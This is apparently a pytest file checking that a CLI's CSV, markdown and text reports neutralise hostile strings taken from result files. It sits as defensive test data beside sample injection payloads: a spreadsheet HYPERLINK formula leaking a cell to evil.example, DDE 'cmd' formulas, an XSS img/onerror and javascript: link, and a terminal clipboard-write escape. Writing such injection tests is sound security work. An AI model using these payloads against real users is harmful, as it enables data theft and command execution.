"""Report output is inert: a result file's strings cannot become a spreadsheet formula, render HTML or links in
markdown, or drive the terminal."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from hierarcaps.cli import main

REPO = Path(__file__).resolve().parents[1]
HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "html": '<img src=x onerror="alert(1)">[link](javascript:alert(1))',
    "escape": "\x1b]52;c;cHduZWQ=\x07\x1b[2J",
}


def hostile_result(folder: Path, name: str) -> Path:
    result = json.loads(next((REPO / "leaderboard" / "entries").glob("*/*/result.json")).read_text())
    result["model"]["name"] = name
    result["dataset"]["split"] = name
    path = folder / "result.json"
    path.write_text(json.dumps(result))
    return path


@pytest.mark.parametrize("kind", sorted(HOSTILE))
def test_csv_cells_that_start_like_formulas_are_neutralised(tmp_path: Path, capsys: pytest.CaptureFixture,
                                                            kind: str) -> None:
    path = hostile_result(tmp_path, HOSTILE[kind])
    assert main(["report", str(path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    header, row = rows[0], rows[1]
    for column in ("model", "split"):
        cell = row[header.index(column)]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert float(row[header.index("d_corr")]) > 0                    # numbers stay numbers


def test_negative_numbers_are_not_mangled(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    path = hostile_result(tmp_path, "model")
    result = json.loads(path.read_text())
    result["metrics"]["d_corr"] = {"value": -0.25, "ci95": [-0.3, -0.2], "n": 1000}
    path.write_text(json.dumps(result))
    assert main(["report", str(path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[1][rows[0].index("d_corr")] == "-0.25"


def test_markdown_renders_no_html_or_links(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    path = hostile_result(tmp_path, HOSTILE["html"] + " | extra | cells")
    assert main(["report", str(path), "--format", "markdown"]) == 0
    out = capsys.readouterr().out
    assert not re.search(r"(?<!\\)[<>]", out) and not re.search(r"(?<!\\)\]\(", out), out   # only escaped
    lines = [line for line in out.splitlines() if line.startswith("|")]
    assert len({len(re.split(r"(?<!\\)\|", line)) for line in lines}) == 1, lines      # no extra columns


@pytest.mark.parametrize("output", ["text", "markdown", "csv"])
def test_terminal_escapes_are_printed_inert(tmp_path: Path, capsys: pytest.CaptureFixture, output: str) -> None:
    path = hostile_result(tmp_path, HOSTILE["escape"])
    assert main(["report", str(path), "--format", output]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "x1b" in out and "52;c;cHduZWQ=" in out                   # shown, as text


def test_a_report_written_to_a_file_is_inert_too(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    path = hostile_result(tmp_path, HOSTILE["formula"])
    assert main(["report", str(path), "--format", "csv", "--out", str(tmp_path / "r.csv")]) == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "r.csv").read_text())))
    assert rows[1][0].startswith("'=")
